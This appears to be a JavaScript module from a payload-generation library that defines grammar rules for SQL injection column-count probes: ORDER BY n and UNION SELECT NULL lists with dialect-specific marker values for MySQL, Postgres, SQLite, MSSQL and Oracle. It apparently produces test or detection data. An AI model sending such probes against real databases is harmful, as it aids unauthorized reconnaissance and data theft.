import { WHERE_PLACES } from '../place.js';
import { sqlGenerator } from '../sql-generator.js';

/** Scanners' search for the number of columns: ORDER BY n, then UNION ALL SELECT NULL, NULL … with one marked column. */
export const unionScanner = sqlGenerator({
  name: 'union-scanner',
  places: WHERE_PLACES,
  rules: {
    start: [
      '{open} UNION ALL SELECT {list}{dual} {comment}',
      '{open} UNION SELECT {list}{dual} {comment}',
      '{open} ORDER BY {count} {comment}',
      '{open} UNION ALL SELECT {ints}{dual}{comment}',
    ],
    count: ['1', '2', '3', '4', '6', '10', '{digit}', '{scan}'],
    list: ['NULL', '{mark}', 'NULL,{list}', '{mark},{list}', 'NULL,NULL,{list}'],
    ints: ['{digit}', '{digit},{ints}', '{scan},{ints}', '{digit},{digit},{ints}'],
    mark: ['NULL', "'{tag}'", '{scan}'],
  },
  byDialect: {
    mysql: { mark: ['CONCAT(0x7162717671,0x{scan},0x71626b7671)', '{scan}', '0x{scan}'] },
    postgres: { mark: ['(CHR(113)||CHR(98)||CHR({code}))', "'{tag}'", '{scan}::text'] },
    sqlite: { mark: ["'{tag}'||'{tag}'", '{scan}', 'CHAR(113,{code})'] },
    mssql: { mark: ['CHAR(113)+CHAR({code})+CHAR(118)', "'{tag}'"] },
    oracle: { mark: ['CHR(113)||CHR({code})||CHR(118)', "'{tag}'"] },
  },
});
